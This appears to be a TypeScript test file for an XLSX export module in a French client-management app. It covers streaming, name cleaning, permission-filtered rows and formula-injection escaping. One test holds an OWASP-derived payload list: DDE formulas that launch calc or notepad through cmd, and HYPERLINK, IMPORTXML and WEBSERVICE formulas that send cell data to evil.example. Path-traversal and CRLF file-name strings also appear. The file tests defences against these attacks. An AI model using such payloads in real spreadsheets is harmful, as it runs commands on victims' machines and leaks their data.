import ExcelJS from 'exceljs';
import { Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authenticator } from '../src/auth/principal.js';
import {
  attachmentDisposition,
  exportFileName,
  safeCellText,
  sheetNames,
  xlsxStream,
  xlsxWorkbookStream,
  type ExportColumn,
} from '../src/exports/xlsx.js';
import { clients } from '../src/resources/clients.js';
import { collection } from '../src/resources/collection.js';
import { exportRows } from '../src/resources/export-rows.js';
import { createTestContext, type TestContext } from './helpers/context.js';
import { insertSalesFixture } from './helpers/sales-fixture.js';

async function toBuffer(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

async function readSheet(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

async function* rowsOf<T>(rows: T[]) {
  yield* rows;
}

interface Line {
  name: string;
  amount: number | null;
  date: Date | null;
}

const columns: ExportColumn<Line>[] = [
  { header: 'Nom', value: (line) => line.name },
  { header: 'Montant', value: (line) => line.amount, format: 'euros' },
  { header: 'Date', value: (line) => line.date, format: 'date' },
];

describe('xlsx exports', () => {
  it('writes formula-like text as inert text, numbers and dates as typed cells', async () => {
    const hostile = ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\tA', '\rB'];
    const lines: Line[] = [
      { name: 'Élodie Durand', amount: 125000, date: new Date(Date.UTC(2026, 0, 31)) },
      ...hostile.map((name) => ({ name, amount: -1500, date: null })),
      { name: '', amount: null, date: null },
    ];
    const sheet = await readSheet(
      await toBuffer(xlsxStream({ sheetName: 'Clients', columns, rows: rowsOf(lines) })),
    );

    expect(sheet.name).toBe('Clients');
    expect(sheet.getRow(1).values).toEqual([undefined, 'Nom', 'Montant', 'Date']);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.getCell('A2').value).toBe('Élodie Durand');
    expect(sheet.getCell('B2').value).toBe(125000);
    expect(sheet.getCell('B2').numFmt).toBe('#,##0 "€"');
    expect(sheet.getCell('C2').value).toEqual(new Date(Date.UTC(2026, 0, 31)));
    expect(sheet.getCell('C2').numFmt).toBe('dd/mm/yyyy');
    hostile.forEach((text, index) => {
      const cell = sheet.getCell(`A${index + 3}`);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a raw carriage return back as a line feed.
      expect(cell.value).toBe(`'${text}`.replace('\r', '\n'));
      expect(cell.formula).toBeUndefined();
    });
    expect(sheet.getCell('B3').value).toBe(-1500);
    expect(sheet.rowCount).toBe(lines.length + 1);
  });

  it('streams 20,000 rows through a slow reader, every one of them', async () => {
    const total = 20_000;
    async function* many() {
      for (let index = 0; index < total; index += 1) {
        yield { name: `Client ${index}`, amount: index, date: null } satisfies Line;
      }
    }
    const chunks: Buffer[] = [];
    const slowReader = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _encoding, done) {
        chunks.push(chunk);
        setImmediate(done);
      },
    });
    const stream = xlsxStream({ sheetName: 'Beaucoup', columns, rows: many() });
    await pipeline(stream, slowReader);
    const sheet = await readSheet(Buffer.concat(chunks));
    expect(sheet.rowCount).toBe(total + 1);
    expect(sheet.getCell(`A${total + 1}`).value).toBe(`Client ${total - 1}`);
  });

  it('destroys the stream when the rows fail', async () => {
    async function* failing() {
      yield { name: 'Un', amount: 1, date: null } satisfies Line;
      throw new Error('base indisponible');
    }
    await expect(
      toBuffer(xlsxStream({ sheetName: 'X', columns, rows: failing() })),
    ).rejects.toThrow('base indisponible');
  });

  it('keeps text XML cannot hold out of the file, and names sheets as Excel allows', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await toBuffer(
        xlsxWorkbookStream([
          {
            name: 'Ventes: 2026/[immo]',
            columns,
            rows: rowsOf([
              { name: 'A\u0000B\u0007C <b>&amp;</b> \uD83D\uDE00 \uD800', amount: 1, date: null },
            ]),
          },
          { name: 'ventes: 2026/[IMMO]', columns, rows: rowsOf<Line>([]) },
        ]),
      )) as unknown as ArrayBuffer,
    );
    const [first, second] = workbook.worksheets;
    expect(first!.getCell('A2').value).toBe('ABC <b>&amp;</b> \uD83D\uDE00 ');
    expect(first!.name).toBe('Ventes 2026 immo');
    expect(second!.name).not.toBe(first!.name);
    expect(second!.rowCount).toBe(1);
  });

  it('cuts a long sheet name after a whole word, within 31 characters', () => {
    const names = sheetNames([
      'Montants placés par mois : unités de compte et hors UC',
      'Volumes et frais par fournisseur',
      'Montant des ventes en cours ou signées par type',
      'Anticonstitutionnellementissimementextra',
    ]);
    expect(names).toEqual([
      'Montants placés par mois unités',
      'Volumes et frais par',
      'Montant des ventes en cours ou',
      'Anticonstitutionnellementissime',
    ]);
    for (const name of names) expect(name.length).toBeLessThanOrEqual(31);
  });

  it('stops reading rows when the client goes away', async () => {
    let produced = 0;
    let closed = false;
    async function* endless() {
      try {
        for (;;) {
          produced += 1;
          yield { name: `Client ${produced}`, amount: produced, date: null } satisfies Line;
        }
      } finally {
        closed = true;
      }
    }
    const stream = xlsxStream({ sheetName: 'X', columns, rows: endless() });
    for await (const _chunk of stream) break; // the reader takes one chunk, then leaves
    await expect.poll(() => closed).toBe(true);
    expect(produced).toBeLessThan(100_000);
  });

  it('neutralises the whole formula-injection payload list, control characters first included', async () => {
    // OWASP's CSV-injection payloads, then the same behind characters XML drops (the probe's
    // `\u000b=HYPERLINK`, `\u0001=1+1`, `\u001f-2+3`) and behind a lone surrogate.
    const payloads = [
      '=1+1',
      '+1+1',
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
      "=cmd|' /C calc'!A0",
      '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
      "+cmd|' /C notepad'!A0",
      "-cmd|' /C calc'!A0",
      "@cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '=DDE("cmd";"/C calc";"!A0")',
      '=WEBSERVICE("http://evil.example/")',
    ];
    const hidden = ['\u0000', '\u0001', '\u0008', '\u000b', '\u000c', '\u001f', '\ufffe', '\ud800'];
    const all = [
      ...payloads,
      ...hidden.flatMap((control) => payloads.map((payload) => control + payload)),
      '\u000b\u0001\u001f=1+1',
    ];
    const lines: Line[] = all.map((name) => ({ name, amount: null, date: null }));
    const sheet = await readSheet(
      await toBuffer(xlsxStream({ sheetName: 'X', columns, rows: rowsOf(lines) })),
    );
    all.forEach((payload, index) => {
      const cell = sheet.getCell(`A${index + 2}`);
      expect(cell.type, JSON.stringify(payload)).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, JSON.stringify(payload)).toBeUndefined();
      expect(String(cell.value), JSON.stringify(payload)).toMatch(/^'/);
    });
  });

  it('escapes only what a spreadsheet would run', () => {
    expect(safeCellText('Dupont')).toBe('Dupont');
    expect(safeCellText('12 rue de la Paix')).toBe('12 rue de la Paix');
    expect(safeCellText('a=b')).toBe('a=b');
    expect(safeCellText('=1')).toBe("'=1");
  });

  it('names files label_LAST_First_stamp, safe in a header whatever the names', () => {
    const now = new Date('2026-11-23T08:05:00Z');
    expect(exportFileName('clients', { lastName: 'MARTIN', firstName: 'Claire' }, now)).toBe(
      'clients_MARTIN_Claire_2026-11-23_09-05.xlsx',
    );
    expect(exportFileName('clients', null, now)).toBe('clients_2026-11-23_09-05.xlsx');
    const odd = exportFileName(
      'ventes',
      { lastName: "N'DIAYE/../x", firstName: 'Hélène\r\nX' },
      now,
    );
    expect(odd).toBe("ventes_N'DIAYE-..-x_Hélène-X_2026-11-23_09-05.xlsx");

    // Paris time whatever the server's zone: summer time, and a day that has begun in Paris.
    expect(exportFileName('clients', null, new Date('2026-07-01T21:30:00Z'))).toBe(
      'clients_2026-07-01_23-30.xlsx',
    );
    expect(exportFileName('clients', null, new Date('2026-11-23T23:52:00Z'))).toBe(
      'clients_2026-11-24_00-52.xlsx',
    );

    const disposition = attachmentDisposition(odd);
    expect(disposition).toBe(
      `attachment; filename="ventes_N'DIAYE-..-x_Helene-X_2026-11-23_09-05.xlsx"; ` +
        `filename*=UTF-8''ventes_N%27DIAYE-..-x_H%C3%A9l%C3%A8ne-X_2026-11-23_09-05.xlsx`,
    );
    expect(attachmentDisposition('a"b\\c\u00e9\u4e2d.xlsx')).toMatch(
      /^attachment; filename="a_b_ce_.xlsx"/,
    );
  });
});

describe('exportRows', () => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await createTestContext();
    await insertSalesFixture(ctx.db);
  });
  afterAll(() => ctx?.close());

  async function principalOf(email: string) {
    return authenticator(ctx.db, ctx.config)(await ctx.login(email));
  }

  async function compare(email: string, query: Record<string, string>) {
    const principal = await principalOf(email);
    const request = { db: ctx.db, principal, query };
    const listed = await collection(clients, {
      ...request,
      query: { ...query, itemsPerPage: '10000' },
      search: new URLSearchParams(),
    });
    const exported = [];
    for await (const row of await exportRows(clients, request, 3))
      exported.push(clients.serialize(row));
    return { listed: listed['hydra:member'] as unknown[], exported };
  }

  it('gives exactly the rows and order of the same filtered list, past any page size', async () => {
    const staff = await compare('admin@reseau-patrimoine.fr', { 'order[clientFirstName]': 'desc' });
    expect(staff.exported.length).toBeGreaterThan(3);
    expect(staff.exported).toEqual(staff.listed);

    const agent = await compare('claire.martin@reseau-patrimoine.fr', {});
    expect(agent.exported.length).toBeGreaterThan(0);
    expect(agent.exported.length).toBeLessThan(staff.exported.length);
    expect(agent.exported).toEqual(agent.listed);
  });
});
